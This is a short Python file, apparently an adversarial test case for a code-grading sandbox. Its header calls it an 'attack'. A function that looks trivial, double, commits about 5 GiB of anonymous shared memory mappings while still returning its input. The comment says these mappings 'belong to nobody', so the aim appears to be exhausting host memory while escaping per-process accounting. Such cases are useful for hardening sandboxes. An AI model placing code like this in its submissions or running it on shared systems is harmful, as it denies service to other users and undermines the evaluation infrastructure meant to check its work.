# attack: fills the memory with shared mappings, which belong to nobody
# points: double=0 total=4
# %% double
import mmap
def double(x):
    kept = []
    for _ in range(40):
        kept.append(mmap.mmap(-1, 1 << 27))
        for place in range(0, 1 << 27, 4096):
            kept[-1][place] = 1
    return x
